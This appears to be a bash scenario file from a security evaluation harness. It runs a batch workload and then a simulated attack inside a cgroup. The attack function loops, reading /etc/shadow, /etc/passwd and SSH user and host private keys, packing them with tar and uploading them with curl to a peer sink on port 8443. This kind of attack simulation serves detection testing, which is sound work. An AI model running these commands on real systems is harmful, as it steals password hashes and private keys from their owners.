# shellcheck shell=bash
# exfil: the batch workload; then, from inside its cgroup, credential
# theft: /etc/shadow, the SSH host keys and any user keys are read, packed
# with tar and uploaded with curl to a new peer (HTTP POST to :8443 in the
# peer namespace), in several rounds.
. "$EVAL_DIR/workloads/batch.sh"
SC_IDX=2
SC_DESC="batch job with 4 phases; attack: read /etc/shadow + ssh keys, tar, curl POST to a new peer"
SC_TOOLS="gzip sha256sum sort cat find tar curl"
SC_ATTACKER="cat find tar curl"

sc_attack_setup() { peer_spawn "$PY" "$EVAL_DIR/workloads/sink.py" "$PEER_IP" 8443; }

exfil_attacker() {
	local end=$1 i=0 loot="$WORK/.cache"
	mkdir -p "$loot"
	while within "$end" 5 "$i"; do
		cat /etc/shadow /etc/passwd > "$loot/a" 2>/dev/null
		find /root /home /etc/ssh -maxdepth 3 -name 'id_*' -o -maxdepth 3 \
			-name 'ssh_host_*_key' 2>/dev/null > "$loot/list"
		tar czf "$loot/l.tgz" -T "$loot/list" "$loot/a" 2>/dev/null
		curl -s -o /dev/null --max-time 3 --data-binary @"$loot/l.tgz" \
			"http://$PEER_IP:8443/upload?h=$i"
		i=$((i + 1))
		sleep 2
	done
}
sc_attack() { cg_fn exfil_attacker "$1"; }
